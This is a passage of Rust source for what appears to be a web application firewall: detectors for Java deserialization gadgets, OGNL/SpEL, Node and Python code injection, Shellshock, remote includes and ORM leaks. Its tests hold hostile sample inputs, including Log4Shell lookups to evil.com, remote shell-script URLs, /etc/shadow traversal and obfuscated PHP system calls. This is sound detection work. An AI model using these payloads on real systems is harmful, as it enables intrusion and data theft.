/// those of `java`/`javax`/`jdk`, [`JAVA_OTHER`] and [`JAVA_EXEC_WORDS`].
static JAVA_NAME_HEADS: LazyLock<[bool; 256]> = LazyLock::new(|| {
    let mut heads = [false; 256];
    for w in ["java", "javax", "jdk"]
        .iter()
        .chain(JAVA_OTHER)
        .chain(JAVA_EXEC_WORDS)
    {
        if let Some(&c) = w.as_bytes().first() {
            heads[usize::from(c)] = true;
            heads[usize::from(c.to_ascii_uppercase())] = true;
        }
    }
    heads
});

/// `b` with JavaScript `\uXXXX` escapes resolved (other non-ASCII bytes
/// become U+FFFD): decoded base64 read as source text.
fn unescape_js(b: &[u8]) -> String {
    let mut out = String::with_capacity(b.len());
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        let code = (c == b'\\' && b.get(i + 1) == Some(&b'u'))
            .then(|| b.get(i + 2..i + 6))
            .flatten()
            .and_then(|h| std::str::from_utf8(h).ok())
            .and_then(|h| u32::from_str_radix(h, 16).ok())
            .and_then(char::from_u32);
        if let Some(ch) = code {
            out.push(ch);
            i += 6;
        } else {
            out.push(if c.is_ascii() { c as char } else { '\u{fffd}' });
            i += 1;
        }
    }
    out
}

/// Whether `b` starts with `pat`, each character written as itself or as a
/// JavaScript `\uXXXX` escape.
fn escaped_prefix(b: &[u8], pat: &[u8]) -> bool {
    let mut i = 0;
    for &want in pat {
        if b.get(i) == Some(&want) {
            i += 1;
            continue;
        }
        let hex = match (b.get(i..i + 2), b.get(i + 2..i + 6)) {
            (Some(b"\\u"), Some(h)) => h,
            _ => return false,
        };
        let code = std::str::from_utf8(hex)
            .ok()
            .and_then(|h| u32::from_str_radix(h, 16).ok());
        if code != Some(u32::from(want)) {
            return false;
        }
        i += 6;
    }
    true
}

/// Gadget names and serialization magic inside base64 at any alignment
/// (the value is a fragment cut from a longer base64 stream); also
/// node-serialize's `_$$ND_FUNC$$_` marker (13 bytes, so 8 or more
/// base64 characters: `gate::Shape::may_java_base64` still covers it).
pub fn java_base64(s: &str) -> Option<ClassFound> {
    java_base64_with(s, true)
}

/// [`java_base64`], with its per-token prefilter [`b64_may_hit`] only when
/// `prefilter` (the tests hold the two together).
fn java_base64_with(s: &str, prefilter: bool) -> Option<ClassFound> {
    let (mut six, mut buf, mut all) = (Vec::new(), Vec::new(), Vec::new());
    for tok in s
        .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_')))
        .filter(|t| t.len() >= 6)
        .take(16)
    {
        let b = tok.as_bytes();
        // Under 8 characters no alignment decodes the 8 bytes the searches
        // below need, and the stream magic needs an `A` (see
        // `gate::Shape::may_java_base64`): such a token cannot be a hit.
        if b.len() < 8 && !b.contains(&b'A') {
            continue;
        }
        // Most tokens are words whose decoded bytes are noise: one
        // streaming pass with no buffer says the first search cannot hit.
        if prefilter && !b64_may_hit(b) {
            continue;
        }
        b64_sextets(b, &mut six);
        // Every alignment decoded once, the long ones joined by a NUL (in
        // no needle below, so no match straddles two): one search each
        // tells whether any alignment can hit. Most tokens stop here.
        all.clear();
        let mut maybe = false;
        for skip in 0..4 {
            let start = all.len();
            b64_pack(six.iter().copied(), skip, &mut all);
            let one = all.get(start..).unwrap_or_default();
            if b64_magic(one) {
                maybe = true;
                break;
            }
            if one.len() >= 8 {
                all.push(0);
            } else {
                all.truncate(start);
            }
        }
        if !maybe
            && !B64_GADGETS
                .as_ref()
                .is_some_and(|ac| ac.is_match(all.as_slice()))
            && !js_markers(&all)
        {
            continue;
        }
        // Something may hit: the alignments in order, as before.
        for skip in 0..4 {
            buf.clear();
            b64_pack(six.iter().copied(), skip, &mut buf);
            if let Some(f) = java_b64_aligned(&buf) {
                return Some(f);
            }
        }
    }
    None
}

/// Fewest ASCII letters in a row that every [`B64_GADGETS`] needle holds
/// (`runtime` less its ends: `untim`; `tests::b64_gadget_letter_runs`).
const B64_GADGET_RUN: usize = 5;

/// Whether the first search of [`java_base64`] can hit on token `t`: some
/// alignment of its decoded bytes holds the stream magic in its first 6
/// bytes ([`b64_magic`]), [`B64_GADGET_RUN`] ASCII letters in a row (every
/// gadget needle, matched ASCII-case-insensitively, is made of such runs
/// and `.`), `_$$` or `\u00` ([`js_markers`]). A superset of that search
/// (which also skips alignments under 8 bytes), decoded on the fly with the
/// arithmetic of [`b64_pack`] and no buffer.
fn b64_may_hit(t: &[u8]) -> bool {
    const MAGIC: u32 = 0x00ed_0005;
    const NODE: u32 = u32::from_be_bytes([0, b'_', b'$', b'$']);
    const ESC: u32 = u32::from_be_bytes(*b"\\u00");
    for skip in 0..4u32 {
        let (mut acc, mut bits) = (0u32, skip * 6);
        let (mut n, mut run, mut last) = (0usize, 0usize, 0u32);
        for v in b64_values(t) {
            acc = (acc << 6 | u32::from(v)) & 0xff_ffff;
            bits += 6;
            if bits >= 8 {
                bits -= 8;
                let c = (acc >> bits) as u8;
                n += 1;
                last = last << 8 | u32::from(c);
                run = if c.is_ascii_alphabetic() { run + 1 } else { 0 };
                let three = last & 0xff_ffff;
                if run >= B64_GADGET_RUN
                    || (n <= 6 && three == MAGIC)
                    || three == NODE
                    || last == ESC
                {
                    return true;
                }
            }
        }
    }
    false
}

/// Whether decoded base64 holds `_$$` (node-serialize's marker) or `\u00`
/// (JavaScript escapes): what two `memmem` searches would say, in one walk
/// over a buffer too short to repay setting up a searcher.
fn js_markers(b: &[u8]) -> bool {
    b.iter().enumerate().any(|(i, &c)| match c {
        b'_' => b.get(i + 1..i + 3) == Some(&b"$$"[..]),
        b'\\' => b.get(i + 1..i + 4) == Some(&b"u00"[..]),
        _ => false,
    })
}

/// Whether the stream magic `AC ED 00 05`, cut by at most 3 leading bytes,
/// opens decoded base64.
fn b64_magic(buf: &[u8]) -> bool {
    let head = buf.get(..6).unwrap_or(buf);
    head.windows(3).any(|w| w == b"\xed\x00\x05")
}

/// [`java_base64`] on one alignment's decoded bytes.
fn java_b64_aligned(buf: &[u8]) -> Option<ClassFound> {
    if b64_magic(buf) {
        return Some(("deser", "deser.java", 0.85));
    }
    if buf.len() < 8 {
        return None;
    }
    if B64_GADGETS.as_ref().is_some_and(|ac| ac.is_match(buf)) {
        return Some(("java", "java.base64_gadget", 0.8));
    }
    // node-serialize's function marker, base64-wrapped in a cookie,
    // its letters maybe JavaScript-escaped (`_$$\u004e\u0044_FUNC$$_`).
    if memchr::memmem::find_iter(buf, b"_$$")
        .take(4)
        .any(|at| escaped_prefix(buf.get(at + 3..).unwrap_or(&[]), b"ND_FUNC$$_"))
    {
        return Some(("deser", "deser.node_base64", 0.8));
    }
    // JavaScript escapes under base64 (`\u0077\u0068ile(true);`):
    // the code they spell, read as a value would be.
    if memchr::memmem::find(buf, b"\\u00").is_some() {
        if let Some(f) = js_code(&unescape_js(buf).to_ascii_lowercase()) {
            return Some(f);
        }
    }
    None
}

/// Java: class names attackers reach for, gadget chains, OGNL/SpEL, Spring4Shell.
pub fn java(s: &str) -> Option<ClassFound> {
    java_gated(s, true)
}

/// [`java`], with its last step, [`java_base64`], only when `base64` (a
/// caller's gate said base64 could hide something in `s`).
pub(super) fn java_gated(s: &str, base64: bool) -> Option<ClassFound> {
    // Every search below reads `s` lower-cased; the automata fold ASCII case
    // themselves, so `s` is only copied lower-cased when a marker is in it.
    // Most values hold neither a marker nor a gadget name: one search of
    // both sets says so, and the two searches below run only when it hits.
    let any = JAVA_ANY.as_ref().is_none_or(|ac| ac.is_match(s));
    let marked = any && JAVA_MARKERS.as_ref().is_none_or(|ac| ac.is_match(s));
    if marked {
        if let Some(f) = java_marked(&s.to_ascii_lowercase()) {
            return Some(f);
        }
    } else {
        if s.contains('.') {
            let whole = s.trim();
            for t in dotted_names(s) {
                if !JAVA_NAME_HEADS
                    .get(usize::from(t.as_bytes().first().copied().unwrap_or(0)))
                    .copied()
                    .unwrap_or(true)
                {
                    continue;
                }
                let lower = t.to_ascii_lowercase();
                if let Some(f) = java_name(&lower, t.eq_ignore_ascii_case(whole)) {
                    return Some(f);
                }
            }
        }
        if any && GADGETS.as_ref().is_some_and(|ac| ac.is_match(s)) {
            return Some(("java", "java.gadget", 0.8));
        }
    }
    if base64 {
        java_base64(s)
    } else {
        None
    }
}

/// [`java_gated`] on a lower-cased value with one of [`JAVA_MARKERS`],
/// but for its last step, [`java_base64`].
fn java_marked(lower: &str) -> Option<ClassFound> {
    if lower.contains("class.module.classloader") || lower.contains("class.classloader") {
        return Some(("java", "java.spring4shell", 0.9));
    }
    if (lower.contains("#_memberaccess")
        || lower.contains("@ognlcontext")
        || lower.contains("#context[")
        || lower.contains("ognl."))
        && lower.contains(['#', '@'])
    {
        return Some(("java", "java.ognl", 0.9));
    }
    if lower.contains("t(java.") || lower.contains("t (java.") {
        return Some(("java", "java.spel", 0.9));
    }
    if lower.contains('.') {
        let whole = lower.trim();
        for t in dotted_names(lower) {
            if let Some(f) = java_name(t, t == whole) {
                return Some(f);
            }
        }
    }
    if GADGETS.as_ref().is_some_and(|ac| ac.is_match(lower)) {
        return Some(("java", "java.gadget", 0.8));
    }
    if lower.contains(".getclass()")
        || lower.contains(".forname(")
        || lower.contains("getruntime()")
    {
        return Some(("java", "java.reflection", 0.8));
    }
    None
}

/// Other code injection: Node.js, Python, Ruby, Perl.
pub fn code(s: &str) -> Option<ClassFound> {
    if !s.contains(['(', '.', '`', '[', '$']) && !gate::has(s, "__") {
        return None;
    }
    if !CODE_MARKERS.as_ref().is_none_or(|ac| ac.is_match(s)) {
        return None;
    }
    code_marked(s)
}

/// Strings one of which every finding of [`code`] (and [`js_code`]) has in
/// its lower-cased value, so a value with none of them (ASCII case folded)
/// is not copied and searched a needle at a time: the float's digits, the
/// Node function markers, every needle or the word each needle opens with
/// (`process` for `child_process` and `process.*`, `require` for
/// `require(`/`require.main`/`require[`, `module`, `constructor`, `kernel.`),
/// the flight reference's names, `new date`, and the statements js_code
/// reads off the start (`while`, `for`, `@{`, `console`, `global` holds
/// `process`). `tests::code_markers` checks a value for every return.
static CODE_MARKERS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build([
            "2.225073858507201",
            "_$$nd_func$$_",
            "__js_function",
            "constructor",
            "require",
            "module",
            "prototype",
            "__proto__",
            "new date",
            "while",
            "for",
            "@{",
            "process",
            "console",
            "__import__(",
            "os.system(",
            "os.popen(",
            "subprocess.",
            "exec(compile(",
            "kernel.",
            "io.popen",
            "%x(",
            "getruntime().exec",
        ])
        .ok()
});

/// [`code`] past its marker gate.
fn code_marked(s: &str) -> Option<ClassFound> {
    let lower = s.to_ascii_lowercase();
    // The float that hangs PHP's and Java's parsers (2.2250738585072011e-308).
    if lower.trim_start().starts_with("2.225073858507201") {
        return Some(("code", "code.float_dos", 0.7));
    }
    // Serialized Node functions (node-serialize, funcster).
    if lower.contains("_$$nd_func$$_") || lower.contains("__js_function") {
        return Some(("deser", "deser.node_function", 0.85));
    }
    if let Some(f) = js_code(&lower) {
        return Some(f);
    }
    for (needle, rule, conf) in [
        ("child_process", "code.node", 0.9),
        ("process.mainmodule", "code.node", 0.9),
        ("require(", "code.node", 0.5),
        ("process.binding", "code.node", 0.85),
        ("__import__(", "code.python", 0.9),
        ("os.system(", "code.python", 0.9),
        ("os.popen(", "code.python", 0.9),
        ("subprocess.", "code.python", 0.8),
        ("exec(compile(", "code.python", 0.9),
        ("kernel.exec", "code.ruby", 0.85),
        ("io.popen", "code.ruby", 0.85),
        ("kernel.open", "code.ruby", 0.8),
        ("%x(", "code.ruby", 0.6),
        ("@{[", "code.perl", 0.7),
        ("process.spawn(", "code.ruby", 0.8),
        ("getruntime().exec", "code.java", 0.9),
    ] {
        if lower.contains(needle) {
            if needle == "require("
                && !(lower.contains("require('child")
                    || lower.contains("require(\"child")
                    || lower.contains("require('fs")
                    || lower.contains("require('net"))
            {
                continue;
            }
            return Some(("code", rule, conf));
        }
    }
    None
}

/// Node.js and JavaScript code as a value: the function constructor
/// through `constructor.constructor`, the module loader
/// (`require.main`, `process.mainModule`), `process.env`/`process[...]` or
/// `console.x(...)` opening the value, a Perl `@{ [ ... ] }` interpolation,
/// and a whole value that is a loop statement (`while(!0);`, `for(;;)`) an
/// `eval` would spin on.
fn js_code(lower: &str) -> Option<ClassFound> {
    for needle in [
        "constructor.constructor",
        "[\"constructor\"][\"constructor\"]",
        "require.main",
        "module.constructor._load",
        "module.exports=",
    ] {
        if lower.contains(needle) {
            return Some(("code", "code.node", 0.8));
        }
    }
    // React Server Components' flight references walking to the Function
    // constructor (`"$3:constructor:constructor"`, `"$7:Module:prototype"`).
    if memchr::memchr(b'$', lower.as_bytes()).is_some()
        && (lower.contains("constructor")
            || lower.contains("prototype")
            || lower.contains("__proto__"))
    {
        if let Some(f) = flight_reference(lower) {
            return Some(f);
        }
    }
    // A busy wait on the clock (`var a=new Date();do{...}while(b-a<20000)`):
    // the time-delay probe of server-side JavaScript injection.
    let two_dates = memchr::memmem::find(lower.as_bytes(), b"new date")
        .is_some_and(|at| lower.get(at + 8..).is_some_and(|r| r.contains("new date")));
    if two_dates && lower.contains("while(") {
        return Some(("code", "code.js_delay", 0.75));
    }
    let t = lower.trim();
    // `while(new Date);`: a loop with a blank in its condition, as a statement.
    if let Some(cond) = t.strip_prefix("while(").and_then(|r| r.strip_suffix(");")) {
        if t.len() <= 64 && !cond.trim().is_empty() && !cond.contains([';', '(', ')']) {
            return Some(("code", "code.js_loop", 0.6));
        }
    }
    if let Some(r) = t.strip_prefix("@{") {
        if r.trim_start().starts_with('[') && r.trim_end().ends_with('}') {
            return Some(("code", "code.perl", 0.75));
        }
    }
    // Expressions (no blanks), not prose about them.
    if t.contains(' ') {
        return None;
    }
    for start in [
        "process.env",
        "process[",
        "require[",
        "global.process",
        "globalthis.process",
    ] {
        if t.starts_with(start) {
            return Some(("code", "code.node", 0.75));
        }
    }
    if let Some(r) = t.strip_prefix("console") {
        let r = r.trim_start();
        let call =
            (r.starts_with('.') || r.starts_with("[\"")) && r.trim_end_matches(';').ends_with(')');
        if call {
            return Some(("code", "code.node", 0.6));
        }
    }
    // A loop statement as the whole value.
    let body = t.trim_end_matches([';', '\n', '\r']);
    for kw in ["while", "for"] {
        if let Some(r) = body.strip_prefix(kw) {
            let r = r.trim_start();
            if r.starts_with('(') && r.ends_with(')') && r.len() <= 64 && !r.contains(' ') {
                return Some(("code", "code.js_loop", 0.6));
            }
        }
    }
    None
}

/// `&lbrace`, `&rbrace`, `&dollar`, `&lcub`, `&rcub` (`;` optional) and
/// numeric references with any number of leading zeros, as their characters.
fn loose_entities(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(at) = rest.find('&') {
        out.push_str(rest.get(..at).unwrap_or(""));
        let r = rest.get(at + 1..).unwrap_or("");
        let lower = r.get(..8.min(r.len())).unwrap_or("").to_ascii_lowercase();
        let named = [
            ("lbrace", '{'),
            ("rbrace", '}'),
            ("lcub", '{'),
            ("rcub", '}'),
            ("dollar", '$'),
        ]
        .into_iter()
        .find(|(n, _)| lower.starts_with(n));
        if let Some((n, c)) = named {
            out.push(c);
            let after = r.get(n.len()..).unwrap_or("");
            rest = after.strip_prefix(';').unwrap_or(after);
            continue;
        }
        if let Some(num) = r.strip_prefix('#') {
            let (hex, digits) = match num.strip_prefix(['x', 'X']) {
                Some(h) => (true, h),
                None => (false, num),
            };
            let n = digits
                .bytes()
                .take_while(|c| {
                    if hex {
                        c.is_ascii_hexdigit()
                    } else {
                        c.is_ascii_digit()
                    }
                })
                .count();
            let text = digits.get(..n).unwrap_or("").trim_start_matches('0');
            let v = if text.len() > 6 {
                None
            } else if text.is_empty() {
                Some(0)
            } else {
                u32::from_str_radix(text, if hex { 16 } else { 10 }).ok()
            };
            if let Some(c) = v.filter(|_| n > 0).and_then(char::from_u32) {
                out.push(c);
                let after = digits.get(n..).unwrap_or("");
                rest = after.strip_prefix(';').unwrap_or(after);
                continue;
            }
        }
        out.push('&');
        rest = r;
    }
    out.push_str(rest);
    out
}

/// A flight reference (`$` + hex id, then `:`-separated property names)
/// whose path goes through `constructor`, `prototype` or `__proto__`.
fn flight_reference(lower: &str) -> Option<ClassFound> {
    let b = lower.as_bytes();
    for (at, _) in lower.match_indices('$').take(32) {
        let mut i = at + 1;
        if b.get(i) == Some(&b'@') {
            i += 1;
        }
        let id = i;
        while b.get(i).is_some_and(u8::is_ascii_hexdigit) && i - id < 8 {
            i += 1;
        }
        if i == id || b.get(i) != Some(&b':') {
            continue;
        }
        let path = lower.get(i + 1..).unwrap_or("");
        let end = path
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_' || c == ':'))
            .unwrap_or(path.len());
        if path
            .get(..end)
            .unwrap_or("")
            .split(':')
            .any(|p| matches!(p, "constructor" | "prototype" | "__proto__"))
        {
            return Some(("code", "code.react_flight", 0.85));
        }
    }
    None
}

/// Shellshock in a header value.
pub fn shellshock(s: &str) -> Option<ClassFound> {
    let t = s.trim_start();
    (t.starts_with("() {") || t.starts_with("(){")).then_some(("rce", "rce.shellshock", 0.95))
}

/// Whether a found SQL/XSS/RCE result upgraded to a class finding clears `min`.
pub fn class(f: Option<Found>, class: &'static str) -> Option<ClassFound> {
    f.map(|(rule, c)| (class, rule, c))
}

// ---- Paranoia levels 2-4 -------------------------------------------------

/// Java names CRS's 944300 looks for under base64 (lower case).
static B64_KEYWORDS: LazyLock<Option<AhoCorasick>> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .build([
            "runtime",
            "processbuilder",
            "clonetransformer",
            "forclosure",
            "instantiatefactory",
            "instantiatetransformer",
            "invokertransformer",
            "prototypeclonefactory",
            "prototypeserializationfactory",
            "whileclosure",
            "getproperty",
            "fileoutputstream",
            "fileinputstream",
            "filewriter",
        ])
        .ok()
});

/// The parameter name a point of kind `kind` carries (the key itself for a
/// key point), without its `query.`/`body.form.`/`body.json.` prefix and
/// JSON parents.
fn param_name<'a>(v: &'a str, cx: &Ctx<'a>) -> Option<&'a str> {
    match cx.kind {
        Kind::Key => Some(v),
        Kind::Value => ["query.", "body.form.", "body.json."]
            .iter()
            .find_map(|p| cx.name.strip_prefix(p))
            .map(|n| n.rsplit('.').next().unwrap_or(n)),
        _ => None,
    }
}

/// The host of a URL that starts `s` (`scheme://[user@]host[:port]/...`),
/// lower case; `None` when `s` does not start with one.
fn leading_url_host(s: &str) -> Option<String> {
    let s = s.trim_start();
    let (scheme, rest) = s.split_once("://")?;
    let scheme = scheme
        .strip_prefix("url:")
        .or_else(|| scheme.strip_prefix("jar:"))
        .unwrap_or(scheme);
    if scheme.is_empty()
        || scheme.len() > 16
        || !scheme
            .bytes()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'.' | b'-'))
    {
        return None;
    }
    let auth = rest.split(['/', '?', '#', '\\']).next().unwrap_or("");
    let host = auth.rsplit('@').next().unwrap_or(auth);
    let host = match host.rsplit_once(':') {
        Some((h, port)) if port.bytes().all(|c| c.is_ascii_digit()) => h,
        _ => host,
    };
    Some(host.to_ascii_lowercase())
}

/// Whether the URL `v` has the shape of an include target rather than of a
/// link to a page or a file: a bare host (`http://foo.bar`,
/// `https://example.com:1234/`), user info hiding the real host
/// (`http://example.com/@evil.com/`), or a trailing `?` that cuts off the
/// application's suffix. Share links, avatars and webhooks have a path.
fn include_target(v: &str) -> bool {
    let after = v.split_once("://").map_or("", |(_, r)| r).trim_end();
    let path = after.find(['/', '?', '#']).map_or("", |at| &after[at..]);
    matches!(path, "" | "/" | "?" | "/?") || after.contains('@') || after.ends_with('?')
}

/// What the rules of paranoia levels 2 to `level` find in one decoded
/// value, beyond SQL ([`super::sqli::paranoid`]) and shell
/// ([`super::cmdi::paranoid`]): a URL to another host in a parameter (RFI,
/// 931130: every share link looks the same), an ORM lookup in a parameter
/// name ([`ORM_LOOKUPS`]; 934210/934220: so do filter APIs), Java names under base64
/// (944300).
pub fn paranoid(v: &str, cx: &Ctx<'_>, level: u8, out: &mut Vec<ClassFound>) {
    if level < 2 {
        return;
    }
    let own = cx.host.rsplit_once(':').map_or(cx.host, |(h, _)| h);
    match cx.kind {
        Kind::Value => {
            if let Some(h) = leading_url_host(v) {
                // Another host, another port on this host
                // (`https://example.com:1234/`), or a host after user info
                // that a `/` hid (`http://example.com/@evil.com/`).
                let after = v.split_once("://").map_or("", |(_, r)| r);
                let head = after.split(['?', '#']).next().unwrap_or("");
                let hidden = head
                    .rsplit_once('@')
                    .map(|(_, r)| r.split(['/', ':']).next().unwrap_or(""));
                let port = head
                    .split('/')
                    .next()
                    .and_then(|a| a.rsplit('@').next())
                    .and_then(|a| a.rsplit_once(':'))
                    .map(|(_, p)| p);
                let other = !h.eq_ignore_ascii_case(own)
                    || hidden.is_some_and(|x| !x.is_empty() && !x.eq_ignore_ascii_case(own))
                    || port.is_some_and(|p| cx.host.rsplit_once(':').map(|(_, q)| q) != Some(p));
                // A redirect the browser follows includes nothing.
                if !h.is_empty() && other && include_target(v) && !browser_redirect(cx) {
                    out.push(("rfi", "rfi.pl2.offsite_url", 0.6));
                }
            }
        }
        Kind::Path => {
            // `/get/https://example.com/`: a URL as a path segment.
            if let Some(at) = v.find("://") {
                let seg = v.get(..at).unwrap_or("");
                let scheme = seg.rsplit('/').next().unwrap_or(seg);
                if at > 1
                    && !scheme.is_empty()
                    && scheme.bytes().all(|c| c.is_ascii_alphabetic())
                    && leading_url_host(v.get(at - scheme.len()..).unwrap_or(""))
                        .is_some_and(|h| !h.is_empty() && !h.eq_ignore_ascii_case(own))
                {
                    out.push(("rfi", "rfi.pl2.url_in_path", 0.6));
                }
            }
        }
        _ => {}
    }
    if let Some(name) = param_name(v, cx) {
        let parts: Vec<&str> = name.split("__").take(16).collect();
        if parts.len() >= 2
            && parts
                .iter()
                .all(|p| !p.is_empty() && p.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_'))
            && parts
                .last()
                .is_some_and(|l| ORM_LOOKUPS.contains(&l.to_ascii_lowercase().as_str()))
        {
            // A traversal through the user and account relations (an ORM
            // leak walks to a password or a staff flag); any lookup at 3.
            let through_user = parts.iter().rev().skip(1).any(|p| {
                matches!(
                    p.to_ascii_lowercase().as_str(),
                    "user"
                        | "users"
                        | "owner"
                        | "account"
                        | "accounts"
                        | "created_by"
                        | "updated_by"
                        | "auth"
                        | "groups"
                        | "permissions"
                )
            });
            if parts.len() >= 3 && through_user {
                out.push(("nosql", "nosql.pl2.orm_traversal", 0.6));
            } else if level >= 3 {
                out.push(("nosql", "nosql.pl3.orm_lookup", 0.55));
            }
        }
    }
    if level < 3 || cx.kind == Kind::Path {
        return;
    }
    if let Some(ac) = B64_KEYWORDS.as_ref() {
        let mut buf = Vec::new();
        let hit = v
            .split(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '/' | '-' | '_')))
            .filter(|t| t.len() >= 8)
            .take(16)
            .any(|tok| {
                (0..4).any(|skip| {
                    b64_shifted(tok.as_bytes(), skip, &mut buf);
                    ac.is_match(buf.as_slice())
                })
            });
        if hit {
            out.push(("java", "java.pl3.base64_keyword", 0.55));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cx(kind: Kind, name: &str) -> Ctx<'_> {
        Ctx {
            kind,
            name,
            in_url: true,
            host: "shop.example.com",
        }
    }

    #[test]
    fn traversal_spellings_and_pseudo_files() {
        let v = cx(Kind::Value, "query.foo");
        let h = cx(Kind::Header, "header.FoobarHeader");
        let path = cx(Kind::Path, "path");
        for (a, c) in [
            ("0x2e.%000x2f0x2e.%00/WINDOWS/win.ini", &v),
            ("0x5c0x2e.%00/", &h),
            ("0x5c0x2e./", &h),
            ("..\\pineapple", &v),
            ("..;.\\.;\\.", &v),
            ("/path/to/.docker/secrets", &v),
            ("../.history", &v),
            ("/get/sys/class", &path),
            ("/get/proc/interrupts", &path),
            ("/x/proc/1234/environ", &path),
            ("files/proc/self/cmdline", &v),
            ("/sys/class", &cx(Kind::Key, "query_key./sys/class")),
            ("/etc/shadow", &cx(Kind::Header, "header.User-Agent")),
        ] {
            assert!(files(a, c).is_some(), "missed {a:?}");
        }
        for (b, c) in [
            ("0x2e0x2f", &v),
            ("color=0x2e2e2e", &v),
            ("the ../ notation", &v),
            ("..and then", &v),
            ("cat /proc/cpuinfo shows 4 cores", &v),
            ("/api/process/42", &path),
            ("/docs/sys/admin-guide", &path),
            ("/blog/2024/the-proc/", &path),
            ("/.dockerignore", &v),
            (
                "see /etc/hosts for names",
                &cx(Kind::Header, "header.X-Note"),
            ),
            ("my .history notes", &v),
        ] {
            assert_eq!(files(b, c), None, "flagged {b:?}");
        }
    }

    #[test]
    fn flight_references_loops_and_metadata_hosts() {
        for a in [
            "{'_prefix':'x', '_formData':{'get':'$3:constructor:constructor'}}",
            "{\"reason\":{\"0\":\"$7:Module:prototype\"}}",
            "$@1:__proto__:then",
            "while(new Date);",
            "test\"+(function(){if(typeof gs78r==='undefined'){var a=new Date();do{var b=new Date();}while(b-a<20000);gs78r=1;}}())+\"",
        ] {
            assert!(code(a).is_some(), "missed {a:?}");
        }
        for a in [
            "$&lbracejndi:ldap://evil.com/webshell}",
            "&#x24;&#00000000000000000000000000000000000000000000000123;jndi:ldap://evil.om/w}",
        ] {
            assert!(log4shell(a).is_some(), "missed {a:?}");
        }
        assert_eq!(
            log4shell("Tom &amp; Jerry talk about jndi: lookups &#123;"),
            None
        );
        for b in [
            "Price $3: constructor kits on sale",
            "the constructor costs $5:00",
            "while (new Date) is a busy loop, avoid it",
            "while(x) { y(); }",
        ] {
            assert_eq!(code(b), None, "flagged {b:?}");
        }
        let v = cx(Kind::Value, "query.ssrf");
        assert_eq!(
            urls("https://metadata.packet.net/userdata", &v).map(|f| f.1),
            Some("ssrf.cloud_metadata")
        );
        assert_eq!(
            urls(
                "http://google.com:80 &@google.com:80# @127.88.23.245:22/",
                &v
            )
            .map(|f| f.0),
            Some("ssrf")
        );
        for b in [
            "https://mastodon.social/@user@127.0.0.1",
            "https://example.com/?mail=a@b.com",
            "mailto:bob@example.com",
        ] {
            assert_eq!(urls(b, &v), None, "flagged {b:?}");
        }
    }

    #[test]
    fn orm_lookups_in_keys() {
        let k = |n: &str| cx(Kind::Key, n).kind;
        assert_eq!(k("x"), Kind::Key);
        for a in [
            "created_by__departments__employees__user__username__startswith",
            "password__isnull",
            "user__password__startswith",
            "body.json_key.user__profile__nickname__istartswith",
            "owner__is_staff__exact",
        ] {
            assert!(
                nosql(a, &cx(Kind::Key, a)).is_some_and(|f| f.0 == "nosql"),
                "missed {a:?}"
            );
        }
        for b in [
            "username__startswith",
            "created_at__gte",
            "author__name__icontains",
            "id__in",
            "__init__",
            "my__notes",
            "a__b__c__d",
        ] {
            assert_eq!(nosql(b, &cx(Kind::Key, b)), None, "flagged {b:?}");
        }
    }

    #[test]
    fn offsite_remote_includes() {
        // The request's Host in cx() is shop.example.com.
        let x = cx(Kind::Value, "query.x");
        for a in [
            "https://shop.example.com.evil.net/",
            "http://evil.example/shell.txt",
            "http://evil.example/r57.php",
            "ftp://files.evil.example/x.inc",
        ] {
            assert_eq!(urls(a, &x).map(|f| f.0), Some("rfi"), "missed {a:?}");
        }
        for (name, b) in [
            ("query.x", "https://api.example.com/v1/readme.txt"),
            ("query.x", "https://evil.example/"),
            ("query.u", "https://news.example.net/story.php"),
            ("body.form.website", "http://www.old-site.example/index.php"),
            ("body.form.avatar_url", "https://img.example.net/show.php"),
            ("body.form.callback", "https://partner.example/notify.php"),
            ("body.json.feed", "https://blog.example.org/rss.php"),
            ("query.x", "https://shop.example.com/help.txt"),
            ("query.x", "https://example.com.au/"),
        ] {
            assert_eq!(
                urls(b, &cx(Kind::Value, name)),
                None,
                "flagged {name} {b:?}"
            );
        }
    }

    #[test]
    fn mail_protocol_injection() {
        let c = cx(Kind::Value, "query.x");
        for a in [
            "\r\nMAIL FROM:<a@b.com>",
            "x@y.z\r\nRCPT TO:<postmaster>",
            "\r\nDATA",
            "\r\nEHLO test.com",
            "\r\na001 EXAMINE INBOX",
            "\r\nRETR 123",
            "\r\nTOP 1 2",
            "\r\nAPOP user 7d0a3bd8e5b2abcfb3e256633c23b891",
        ] {
            assert!(crlf(a, &c).is_some_and(|f| f.0 == "mail"), "missed {a:?}");
        }
        for b in [
            "Thanks!\nData attached, see the sheet.",
            "Hi team,\nQuit smoking tips are in the wiki.",
            "Order 7\nhelp please, the box was empty",
            "Ticket A12\nStatus: open, list of steps below",
            "line one\nline two",
        ] {
            assert_eq!(crlf(b, &c), None, "flagged {b:?}");
        }
    }

    #[test]
    fn php_variables_and_dynamic_calls() {
        let c = cx(Kind::Value, "query.x");
        for a in [
            "$x($y)",
            "${'a'}(11)",
            "$$b(2)",
            "${@$b}(12)",
            "$_aB_4c[5]['d'] /*lol*/ (17)",
            "$a//x\n()",
            "$foo->$funcname()",
            "${'ff'}",
            "$ {'_VAR'.'IABLE_NAME'}",
            "(system)('uname')",
            "(sy.(st).em)('uname');",
            "(string)\"system\"('uname');",
            "\"\\x73y\\x73tem\"(ls);",
            "[system][0](ls);",
            "$y = 'sys'.'tem';($y)('uname');",
            "define('x', 'sys' . 'tem');(x)/* comment */('uname');",
            "exec /*comment*/ ()",
            "system(base64_decode('aWQ='))",
        ] {
            assert!(php(a, &c).is_some_and(|f| f.2 >= 0.5), "missed {a:?}");
        }
        for b in [
            "That costs $5 (five dollars); $x (the unknown) is solved below",
            "Prices in $USD (approx.) and ${price} in the template",
            "JS: (function () { return 1; })() runs at once",
            "The operating system (OS) and the file system (FS) are separate",
            "(a)(b) means a times b",
            "array_map and str_replace are PHP functions we use",
            "${firstName}",
        ] {
            assert_eq!(php(b, &c), None, "flagged {b:?}");
        }
    }

